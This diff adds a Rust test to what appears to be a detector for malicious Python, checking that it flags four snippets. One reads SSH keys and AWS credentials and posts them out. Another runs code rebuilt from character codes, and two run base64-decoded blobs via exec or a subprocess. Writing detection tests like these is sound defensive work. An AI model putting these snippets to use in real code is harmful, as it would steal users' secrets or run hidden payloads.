@@ -303,3 +303,31 @@ fn import_time_is_told_from_call_time() {
     );
     assert!(a.flows.iter().all(|f| !f.top_level));
 }
+
+#[test]
+fn shapes_the_corpus_cases_found() {
+    // characters from codes in a generator
+    assert!(has(
+        "exec(''.join(chr(c) for c in [105, 109, 112]))",
+        Source::Decoded,
+        Sink::Exec
+    ));
+    // contents collected into a list, then sent
+    assert!(has(
+        "import requests\nfound = []\nfor p in ['~/.ssh/id_rsa', '~/.aws/credentials']:\n    found.append(open(p).read())\nrequests.post(u, json=found)",
+        Source::Credential,
+        Sink::Send
+    ));
+    // a decoder in a lambda
+    assert!(has(
+        "import base64\nd = lambda s: base64.b64decode(s)\nexec(d(blob))",
+        Source::Decoded,
+        Sink::Exec
+    ));
+    // decoded code given to a child interpreter
+    assert!(has(
+        "import base64, subprocess, sys\n_c = base64.b64decode(blob).decode()\nsubprocess.Popen([sys.executable, '-c', _c])",
+        Source::Decoded,
+        Sink::Exec
+    ));
+}
